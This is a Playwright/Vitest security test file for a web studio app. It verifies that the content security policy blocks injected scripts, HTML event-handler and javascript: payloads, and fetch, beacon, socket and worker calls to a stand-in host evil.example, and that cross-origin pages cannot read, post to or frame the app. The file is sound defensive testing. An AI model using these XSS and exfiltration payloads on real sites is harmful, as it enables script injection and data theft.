/** What a real browser lets nobody do to the studio: pages of other origins, and words that would be a program if they were not text. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { inChromium } from './in-chromium.test-support';

/** Runs in the page. `evil` is set by whatever should not have run. */
const attempts = `
  window.violations = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.violations.push(effectiveDirective));
  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  add('script', { textContent: 'window.evil = "inline"' });
  add('script', { src: 'https://evil.example/x.js' });
  add('script', { src: 'data:text/javascript,window.evil=1' });
  const box = document.createElement('div');
  box.innerHTML = '<img src="https://evil.example/x.png" onerror="window.evil = 1"><a href="javascript:window.evil=1">x</a>';
  document.body.append(box);
  box.querySelector('a').click();
  add('iframe', { src: 'https://evil.example/' });
  add('iframe', { srcdoc: '<script>parent.evil = 1</script>', onload: () => (window.framed = true) });
  add('object', { data: 'https://evil.example/' });
  add('base', { href: 'https://evil.example/' });
  setTimeout('window.evil = "eval"');
  fetch('https://evil.example/').catch(() => undefined);
  navigator.sendBeacon('https://evil.example/', 'x');
  try { new WebSocket('wss://evil.example/'); } catch {}
  try { new Worker('https://evil.example/w.js'); } catch {}
`;

inChromium('the studio against the rest of the web', {}, (studio) => {
  test('runs nothing and reaches nothing that its policy does not name', async () => {
    const page = await studio.openWindow();
    await page.evaluate(attempts);
    await expect
      .poll(() => page.evaluate('[...new Set(window.violations)].sort()'))
      .toEqual(
        expect.arrayContaining([
          'connect-src',
          'frame-src',
          'img-src',
          'script-src',
          'script-src-elem',
          'script-src-attr',
        ]),
      );
    await expect.poll(() => page.evaluate('window.framed')).toBe(true);
    expect(await page.evaluate('window.evil')).toBeUndefined();
    expect(await page.evaluate('document.baseURI')).toBe(page.url());
    await page.close();
  });

  test('shows a prompt full of HTML, and the names made of it, as text', async () => {
    const { page } = studio;
    const prompt = '<b>boat</b> <img src=x onerror="window.evil=1"><script>window.evil=1</script>';
    await page.getByLabel('Describe a new shot').fill(prompt);
    await page.keyboard.press('Enter');
    await page.getByRole('option', { name: /<b>boat/ }).waitFor();
    expect(await page.locator('b, img[src="x"]').count()).toBe(0);
    expect(await page.evaluate('window.evil')).toBeUndefined();
  });

  test('is not framed, read, written or connected to by a page of another origin, though the browser has been let in', async () => {
    const server = createServer((_, response) => response.setHeader('Content-Type', 'text/html').end('<p>evil</p>'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const own = new URL(studio.page.url()).origin;
    const other = await studio.page.context().newPage();
    const statuses: number[] = [];
    other.on('response', (answer) => answer.url().startsWith(own) && statuses.push(answer.status()));
    for (const host of ['127.0.0.1', 'localhost']) {
      await other.goto(`http://${host}:${port}/`);
      expect(await attack(other, own)).toEqual({ read: false, connected: false, posted: false, pictured: false });
      for (const frame of other.frames()) expect(await frame.locator('#studio').count()).toBe(0);
    }
    expect(statuses.filter((status) => status < 400)).toEqual([]);
    await other.close();
    server.close();
    expect(await studio.page.getByRole('heading', { level: 1 }).isVisible()).toBe(true);
  });
});

/** Everything that a page can try against another origin; what of it came through. */
function attack(page: Page, own: string): Promise<unknown> {
  return page.evaluate(`(async () => {
    const own = ${JSON.stringify(own)};
    const works = (promise) => promise.then(() => true, () => false);
    const frame = document.createElement('iframe');
    frame.src = own + '/';
    document.body.append(frame);
    const read = await works(fetch(own + '/', { credentials: 'include' }));
    const posted = await works(
      fetch(own + '/enter', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' }),
    );
    const pictured = await works(new Promise((resolve, reject) => {
      const picture = Object.assign(new Image(), { onload: resolve, onerror: reject });
      picture.src = own + '/theme/icon.svg';
    }));
    const connected = await works(new Promise((resolve, reject) => {
      const socket = Object.assign(new WebSocket(own.replace('http', 'ws') + '/channel'), { onopen: resolve, onerror: reject });
      // Refused it ends at once; this ends it where nobody answers at all.
      setTimeout(() => socket.close(), 2000);
    }));
    return { read, connected, posted, pictured };
  })()`);
}
